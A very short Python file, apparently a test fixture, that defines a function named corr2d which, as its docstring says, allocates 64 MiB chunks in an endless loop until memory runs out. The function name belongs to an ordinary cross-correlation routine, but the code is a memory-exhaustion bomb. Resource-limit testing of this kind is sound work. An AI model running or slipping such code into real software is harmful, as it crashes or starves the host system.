"""Takes memory, and more memory, until there is none left."""

held = []


def corr2d(X, K):
    while True:
        held.append(b"x" * (64 << 20))
